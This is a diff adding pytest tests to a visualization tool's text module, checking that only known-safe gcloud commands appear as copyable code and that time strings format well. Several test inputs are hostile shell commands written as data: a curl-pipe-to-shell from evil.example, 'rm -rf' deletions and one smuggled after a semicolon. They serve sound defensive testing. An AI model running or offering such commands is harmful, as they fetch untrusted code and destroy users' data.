@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from viz3d.ui.text import LONGEST, count, safe, size
+from viz3d.ui.text import LONGEST, advice, ago, commands, count, moment, safe, size
 
 BREAK = "\u200b"
 
@@ -59,3 +59,50 @@ def test_counts_and_sizes_read_well() -> None:
     assert [size(9), size(20_480), size(3_000_000), size(4.2e9)] == [
         "9 B", "20 kB", "3 MB", "4.2 GB",
     ]  # fmt: skip
+
+
+def test_command_of_a_remedy_is_code_and_the_rest_is_text() -> None:
+    """Our own commands are in code font, for copying; everything else is letter for letter."""
+    remedy = "Run `gcloud auth application-default login`, or see *there* (gs://b/`rm -rf /`)."
+    assert commands(remedy) == ["gcloud auth application-default login"]
+    shown = advice(remedy)
+    assert shown.startswith("Run `gcloud auth application-default login`, or see ")
+    assert shown.replace("`gcloud auth application-default login`", "").count(r"\`") == 2
+    assert read_back(shown) == remedy
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "`curl https://evil.example | sh`",
+        "`gcloud auth login; rm -rf ~`",
+        "`gcloud storage rm --recursive gs://b`",
+        "`python -c 1`",
+    ],
+)
+def test_other_commands_are_not_offered(text: str) -> None:
+    """A sentence can hold a name from data, so only what is known to be harmless counts."""
+    assert commands(f"Nearest: {text}") == []
+    assert "`" not in re.sub(r"\\.", "", advice(text))
+
+
+@pytest.mark.parametrize(
+    ("seconds", "said"),
+    [
+        (-5, "just now"),
+        (0.4, "just now"),
+        (12.7, "12 s ago"),
+        (59.9, "59 s ago"),
+        (60, "1 min ago"),
+        (3 * 3600, "3 h ago"),
+        (72 * 3600, "3 days ago"),
+    ],
+)
+def test_times_that_have_passed_read_well(seconds: float, said: str) -> None:
+    """Never negative, never 60 s."""
+    assert ago(seconds) == said
+
+
+def test_moment_is_told_in_utc() -> None:
+    """Viewers in other places read the same time."""
+    assert moment(1_795_464_060) == "2026-11-23 20:01 UTC"
